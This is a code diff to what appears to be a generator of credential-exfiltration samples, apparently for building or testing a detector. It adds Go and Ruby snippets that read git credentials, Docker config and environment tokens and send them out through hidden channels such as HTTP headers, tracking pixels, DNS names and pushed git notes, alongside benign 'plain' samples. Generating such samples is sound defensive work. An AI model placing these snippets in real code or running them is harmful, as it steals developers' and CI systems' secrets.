@@ -226,15 +226,17 @@ const POWERSHELL: Space = {
 };
 
 const GO: Space = {
-  prelude: 'package main\n\nimport (\n\t"encoding/hex"\n\t"net"\n\t"net/http"\n\t"os"\n\t"os/exec"\n\t"path/filepath"\n)\n\n',
+  prelude: 'package main\n\nimport (\n\t"encoding/hex"\n\t"net"\n\t"net/http"\n\t"os"\n\t"os/exec"\n\t"path/filepath"\n\t"strings"\n)\n\n',
   sources: [
     part('docker config', 'home, _ := os.UserHomeDir()\nraw, _ := os.ReadFile(filepath.Join(home, ".docker", "config.json"))\nv := string(raw)'),
     part('git credentials', 'home, _ := os.UserHomeDir()\nraw, _ := os.ReadFile(filepath.Join(home, ".git-credentials"))\nv := string(raw)'),
     part('ci token', 'v := os.Getenv("CI_JOB_TOKEN")'),
+    part('git credential fill', 'cmd := exec.Command("git", "credential", "fill")\ncmd.Stdin = strings.NewReader("protocol=https\\nhost=github.com\\n\\n")\nout, _ := cmd.Output()\nv := string(out)'),
   ],
   indirections: [
     part('direct', 'w := v'),
     part('hex', 'w := hex.EncodeToString([]byte(v))'),
+    part('map from a loop', 'fields := map[string]string{}\nfor _, line := range strings.Split(v, "\\n") {\n\tif key, val, ok := strings.Cut(line, "="); ok {\n\t\tfields[key] = val\n\t}\n}\nw := fields["password"] + fields["username"]'),
   ],
   carriers: [
     part('header', `req, _ := http.NewRequest("GET", "${URL}", nil)\nreq.Header.Set("X-Request-Trace", w)\nhttp.DefaultClient.Do(req)`),
@@ -255,6 +257,7 @@ const RUBY: Space = {
     part('docker config', 'v = File.read(File.join(Dir.home, ".docker", "config.json"))'),
     part('git credentials', 'v = File.read(File.expand_path("~/.git-credentials"))'),
     part('ci token', 'v = ENV.fetch("CI_JOB_TOKEN", "")'),
+    part('filtered env', 'v = ENV.select { |name, _| name.end_with?("_TOKEN") }.map { |name, val| "#{name}=#{val}" }.join(";")'),
   ],
   indirections: [
     part('direct', 'w = v'),
@@ -265,6 +268,7 @@ const RUBY: Space = {
     part('tracking pixel', `Net::HTTP.get(URI("${URL}/b.gif?cb=#{w}"))`),
     part('dns name', `Resolv.getaddress("#{w[0, 40]}.${HOST}")`),
     part('commit message', 'system("git", "commit", "--allow-empty", "-m", "ci: refresh [#{w}]")\nsystem("git", "push", "origin", "HEAD")'),
+    part('git notes', 'system("git", "notes", "add", "-f", "-m", "review: #{w}", "HEAD")\nsystem("git", "push", "origin", "refs/notes/commits")'),
   ],
   plain: [
     part('version', 'v = "1.4.2"'),
